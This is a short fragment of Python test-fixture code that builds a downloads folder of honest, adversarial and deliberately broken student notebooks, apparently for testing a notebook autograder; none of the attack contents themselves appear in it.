        if cell.cell_type == "code":
            cell.source = context.fill(cell.source, attack.name)
    return planted


def write_hostile_downloads(downloads: Path, context: Context, honest_partial: str) -> None:
    """The honest students, every notebook attack, every broken file, in one downloads folder."""
    downloads.mkdir(parents=True, exist_ok=True)
    nbformat.write(base_notebook("solution", context.marker), str(downloads / f"{context.honest}_vae.ipynb"))
    nbformat.write(base_notebook("partial"), str(downloads / f"{honest_partial}_vae.ipynb"))
    with warnings.catch_warnings():   # duplicated cells keep their ids on purpose (as Colab's copy does)
        warnings.simplefilter("ignore")
        for attack in attacks():
            nbformat.write(build_attack(attack, context), str(downloads / f"{attack.name}_vae.ipynb"))
    release = notebooks.read(RELEASE_NOTEBOOK)
    for broken in BROKEN:
        (downloads / broken.name).write_bytes(broken_bytes(broken.name, release))


def student_of_broken(broken: Broken) -> str:
    return broken.name.removesuffix("_vae.ipynb")
